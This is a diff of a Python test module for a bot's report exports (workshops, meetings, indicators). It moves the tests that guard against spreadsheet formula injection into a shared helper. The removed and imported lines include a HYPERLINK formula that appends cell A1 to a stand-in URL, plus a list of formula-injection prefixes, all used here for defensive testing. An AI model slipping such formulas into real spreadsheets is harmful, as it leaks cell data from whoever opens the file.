@@ -6,8 +6,6 @@ title and a delegate's name written as spreadsheet formulas arrive as text in ev
 from __future__ import annotations
 
 import csv
-import re
-import zipfile
 from datetime import datetime, timedelta
 from io import BytesIO
 from pathlib import Path
@@ -35,48 +33,10 @@ from storage.repositories import meetings, people
 from storage.repositories import workshops as repo
 from tests.chat import Person as Chatter
 from tests.helpers import register
+from tests.test_spreadsheet_guard import FORMULA, assert_formula_is_text
 
 LIMA = ZoneInfo("America/Lima")
 T = translator("es", LIMA)
-FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"Ver")'
-DANGEROUS = [FORMULA, "+51 999", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]
-
-
-def test_as_text() -> None:
-    from bot.services.spreadsheet import as_text
-
-    assert [as_text(value) for value in DANGEROUS] == [f"'{value}" for value in DANGEROUS]
-    assert as_text("Puno") == "Puno" and as_text(-1) == -1 and as_text(None) is None
-    assert as_text("—") == "—" and as_text("") == ""
-
-
-def _formulas(workbook: bytes) -> list[str]:
-    """Every sheet's XML: a cell stored as a formula has an <f> element."""
-    with zipfile.ZipFile(BytesIO(workbook)) as archive:
-        return [
-            name
-            for name in archive.namelist()
-            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
-        ]
-
-
-def _texts(workbook: bytes) -> list[tuple[str, str]]:
-    """(value, data_type) of every non-empty cell, as openpyxl reads the file back."""
-    book = load_workbook(BytesIO(workbook))
-    return [
-        (cell.value, cell.data_type)
-        for sheet in book.worksheets
-        for row in sheet.iter_rows()
-        for cell in row
-        if isinstance(cell.value, str)
-    ]
-
-
-def _assert_formula_is_text(workbook: bytes) -> None:
-    assert _formulas(workbook) == []
-    texts = _texts(workbook)
-    assert (FORMULA, "s") in texts, texts
-    assert all(data_type == "s" for value, data_type in texts if value.startswith("=")), texts
 
 
 # --- /taller, end to end ---------------------------------------------------------------------
@@ -137,7 +97,7 @@ async def test_workshop_report_cannot_be_subtracted(
     await rosa.press(report, "Descargar XLSX")
     document = await rosa.reply()
     workbook = api.files[document.params["file_id"]]
-    _assert_formula_is_text(workbook)
+    assert_formula_is_text(workbook)
     book = load_workbook(BytesIO(workbook))
     assert book["Comentarios"]["B2"].value == FORMULA
     assert book["Comentarios"]["B2"].data_type == "s"
@@ -207,7 +167,7 @@ async def test_indicator_3_cannot_be_subtracted(db: Database, tmp_path: Path) ->
     assert "3. Calificación general: respuestas por puntaje" not in charts  # all hidden
 
     workbook = indicators_xlsx(report, T)
-    _assert_formula_is_text(workbook)
+    assert_formula_is_text(workbook)
     written = write_csv(report, T, tmp_path / "csv")
     cells = []
     for path in written:
@@ -277,7 +237,7 @@ async def test_meeting_report_hides_sex(db: Database) -> None:
     assert [group.counts for group in report.by_sex] == [None, None]
     assert not hasattr(report.invitees[0], "sex")
     workbook = meeting_xlsx(report, T)
-    _assert_formula_is_text(workbook)
+    assert_formula_is_text(workbook)
     book = load_workbook(BytesIO(workbook))
     assert T.gettext("Sex") not in [cell.value for cell in book["Invitados"][1]]
     by_sex = list(book["Por sexo"].iter_rows(min_row=2, values_only=True))
@@ -378,36 +338,3 @@ async def test_registered_counts_by_sex_are_not_singled_out(
     assert "Cusco: 1 (—)" in text and "Hombre: 1" not in text
     assert "Puno: 3 (—)" in text  # beside the total by sex it would give Cusco's
     assert "Total: 5" in text
-
-
-def test_every_workbook_and_csv_file_goes_through_the_formula_guard() -> None:
-    """Whatever writes a workbook or a CSV file, now or added later (visits, team reports,
-    agreements...), saves it with `workbook_bytes` or writes its rows with `csv_rows`, which
-    keep text that starts like a formula as text: no module saves a workbook or writes CSV
-    rows itself."""
-    root = Path(__file__).resolve().parent.parent
-    guard = root / "bot" / "services" / "spreadsheet.py"
-    producers, bypasses = [], []
-    for folder in ("bot", "handlers", "storage", "knowledge"):
-        for path in sorted((root / folder).rglob("*.py")):
-            if path == guard:
-                continue
-            source = path.read_text(encoding="utf-8")
-            name = str(path.relative_to(root))
-            if "Workbook()" in source:
-                producers.append(name)
-                if "workbook_bytes(" not in source or re.search(r"book\.save\(", source):
-                    bypasses.append(name)
-            if re.search(r"\.writerows?\(|DictWriter", source):
-                bypasses.append(name)
-            compact = re.sub(r"\s+", "", source)
-            if compact.count("csv.writer(") != compact.count("csv_rows(csv.writer("):
-                bypasses.append(name)
-    assert bypasses == []
-    assert {  # the search finds them (agreements are a sheet of the meeting's workbook)
-        "bot/services/indicators/xlsx.py",
-        "bot/services/meeting_xlsx.py",
-        "bot/services/visit_xlsx.py",
-        "bot/services/workshop_xlsx.py",
-        "handlers/team_reports.py",
-    } <= set(producers), producers
